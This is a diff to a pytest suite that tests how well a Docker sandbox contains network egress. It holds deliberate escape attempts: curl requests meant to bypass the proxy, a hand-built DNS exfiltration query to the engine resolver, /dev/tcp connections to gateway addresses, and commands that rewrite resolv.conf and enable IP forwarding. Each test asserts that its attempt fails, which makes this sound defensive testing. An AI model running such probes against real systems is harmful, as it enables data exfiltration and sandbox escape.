@@ -7,10 +7,13 @@ greeting never comes back. Nothing is sent off this machine.
 
 from __future__ import annotations
 
+import contextlib
+import ipaddress
 import socket
 from collections.abc import AsyncIterator, Iterator
 from pathlib import Path
 
+import anyio
 import docker
 import pytest
 from conftest import make_workspace, sandbox_settings
@@ -21,6 +24,7 @@ from terminus_mcp.sandbox.docker_backend import DockerSession
 from terminus_mcp.sandbox.manager import SandboxManager
 
 from .conftest import Figure
+from .support import LoopbackListener
 
 pytestmark = [pytest.mark.anyio, pytest.mark.docker]
 
@@ -34,6 +38,7 @@ def lab(docker_client: docker.DockerClient, workspace_root: Path) -> Iterator[Eg
         yield bench
 
 
+@contextlib.asynccontextmanager
 async def _manager(
     client: docker.DockerClient, root: Path, **overrides: object
 ) -> AsyncIterator[SandboxManager]:
@@ -52,7 +57,7 @@ async def _manager(
 async def manager(
     docker_client: docker.DockerClient, workspace_root: Path
 ) -> AsyncIterator[SandboxManager]:
-    async for opened in _manager(docker_client, workspace_root):
+    async with _manager(docker_client, workspace_root) as opened:
         yield opened
 
 
@@ -91,14 +96,14 @@ async def test_ip_literals(session: DockerSession, lab: EgressLab, figure: Figur
         "decimal": f"http://{packed}/",
         "hex": f"http://{hex(packed)}/",
         "ipv4-mapped-ipv6": f"http://[::ffff:{ip}]/",
-        "loopback": "http://127.0.0.1:3128/",
+        "loopback": "--noproxy '' http://127.0.0.1:3128/",
         "connect-dotted": f"--proxytunnel http://{ip}:443/",
     }
     outputs = {name: await sh(session, f"{CURL} -i {url}") for name, url in urls.items()}
     assert contained(outputs) == [], outputs
-    refused = sum("403 Forbidden" in out or "response 403" in out for out in outputs.values())
-    figure.note(f"{len(urls)} IP-literal forms, {refused} refused by the proxy with 403")
-    assert refused == len(urls), outputs
+    refused = [n for n, out in outputs.items() if "403 Forbidden" in out or "response 403" in out]
+    figure.note(f"{len(urls)} IP-literal forms, {len(refused)} refused by the proxy with 403")
+    assert sorted(refused) == sorted(urls), outputs
 
 
 @pytest.mark.check("attack", "egress-connect-other-ports")
@@ -156,8 +161,10 @@ async def test_names_resolving_to_private_or_loopback(
 ) -> None:
     outputs = {
         "private-name": await sh(session, f"{CURL} -i http://{PRIVATE}/"),
-        "localhost-name": await sh(session, f"{CURL} -i http://localhost:80/"),
-        "localhost-proxy-port": await sh(session, f"{CURL} --proxytunnel http://localhost:443/"),
+        "localhost-name": await sh(session, f"{CURL} --noproxy '' -i http://localhost:80/"),
+        "localhost-proxy-port": await sh(
+            session, f"{CURL} --noproxy '' --proxytunnel http://localhost:443/"
+        ),
     }
     assert contained(outputs) == [], outputs
     assert all("403" in out for out in outputs.values()), outputs
@@ -165,18 +172,33 @@ async def test_names_resolving_to_private_or_loopback(
 
 
 @pytest.mark.check("attack", "egress-dns-exfiltration")
-async def test_engine_resolver_forwards_nothing(session: DockerSession, figure: Figure) -> None:
+async def test_engine_resolver_forwards_nothing(
+    session: DockerSession, docker_client: docker.DockerClient, figure: Figure
+) -> None:
     """The engine's resolver (127.0.0.11) must not forward queries off the internal network
-    (CVE-2024-29018 on older engines): it forwards to the proxy, which answers no DNS."""
+    (CVE-2024-29018 on older engines): its upstream is set to the proxy, which answers no DNS.
+    The engine here (20.10) gave no answer with or without that setting, so the setting is
+    also asserted on the container."""
+    assert session.route is not None
+    config = docker_client.containers.get(session.container_id).attrs["HostConfig"]
+    assert config["Dns"] == [session.route.proxy_ip]
     query = (
-        "import socket,struct,secrets; s=socket.socket(socket.AF_INET,socket.SOCK_DGRAM); "
-        "s.settimeout(8); name=b'exfil-'+secrets.token_hex(4).encode()+b'.egress-lab.invalid'; "
-        "q=struct.pack('>HHHHHH',0x1234,0x0100,1,0,0,0)+b''.join(bytes([len(p)])+p for p in "
-        "name.split(b'.'))+b'\\0'+struct.pack('>HH',1,1); s.sendto(q,('127.0.0.11',53)); "
-        "r=s.recv(512); print('rcode', r[3] & 15)"
+        "import socket,struct,secrets\n"
+        "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(8)\n"
+        "name = 'exfil-' + secrets.token_hex(4) + '.egress-lab.invalid'\n"
+        "q = struct.pack('>HHHHHH', 0x1234, 0x0100, 1, 0, 0, 0)\n"
+        "q += b''.join(bytes([len(p)]) + p.encode() for p in name.split('.'))\n"
+        "q += b'\\0' + struct.pack('>HH', 1, 1)\n"
+        "s.sendto(q, ('127.0.0.11', 53))\n"
+        "try:\n"
+        "    print('rcode', s.recv(512)[3] & 15)\n"
+        "except TimeoutError:\n"
+        "    print('no answer within 8 s')\n"
     )
-    out = await sh(session, f'timeout 20 python3 -c "{query}"')
+    await anyio.Path(session.info().workdir, "dns_probe.py").write_text(query)
+    out = await sh(session, "timeout 20 python3 /workspace/dns_probe.py")
     assert "rcode 3" not in out, f"an upstream resolver answered NXDOMAIN: {out}"
+    assert "rcode 0" not in out, out
     figure.note("engine resolver: " + (out.splitlines()[0] if out else "no answer"))
 
 
@@ -198,16 +220,48 @@ async def test_script_edits_its_own_network(
         "echo 'nameserver 1.1.1.1' > /etc/resolv.conf 2>&1; "
         "sysctl -w net.ipv4.ip_forward=1 2>&1; id -u"
     )
-    async for manager in _manager(docker_client, workspace_root, sandbox_user="auto"):
+    async with _manager(docker_client, workspace_root, sandbox_user="auto") as manager:
         for work in (root_owned, plain):
             opened = await manager.create(SessionSpec(workdir=work))
             assert opened.route is not None
             join_lab(docker_client, lab, opened.route.proxy_container)
             out = await sh(opened, attempts.format(proxy=opened.route.proxy_ip))
             assert out.count("Operation not permitted") >= 3, out
-            after = await sh(opened, f"{UNSET} {CURL} http://{lab.server_ip}/; ip route")
+            after = await sh(opened, f"{UNSET} {CURL} http://{lab.server_ip}/; ip addr; ip route")
             assert GREETING not in after, after
-            assert "default" not in after, after
+            assert "10.9.9.9" not in after, after
             uid = out.strip().splitlines()[-2]
             figure.note(f"uid {uid}: route/addr/link/unshare refused")
             await manager.close(opened.id)
+
+
+def _gateway(client: docker.DockerClient, network: str) -> str:
+    """A network's gateway address (the subnet's first address when the engine omits it)."""
+    config = client.networks.get(network).attrs["IPAM"]["Config"][0]
+    return str(config.get("Gateway") or next(ipaddress.ip_network(config["Subnet"]).hosts()))
+
+
+@pytest.mark.check("attack", "egress-host-services")
+async def test_host_services_through_the_gateway(
+    session: DockerSession, docker_client: docker.DockerClient, figure: Figure
+) -> None:
+    """A host service listening on every interface: the internal network's gateway address is
+    not the host's (no address on its bridge), and the default bridge is not routed to."""
+    assert session.route is not None
+    gateway = _gateway(docker_client, session.route.network)
+    bridge = _gateway(docker_client, "bridge")
+    with LoopbackListener("0.0.0.0") as listener:
+        listener.probe_from_host()
+        seen = listener.tcp_hits
+        outputs = {
+            target: await sh(
+                session,
+                f"{UNSET} timeout 8 bash -c 'echo x > /dev/tcp/{target}/{listener.port}' "
+                f"&& echo connected-{target}",
+            )
+            for target in (gateway, bridge)
+        }
+        reached = listener.tcp_hits - seen
+    assert reached == 0, outputs
+    assert all("connected-" not in out for out in outputs.values()), outputs
+    figure.note(f"host listener on all interfaces: not reached via {gateway} or {bridge}")
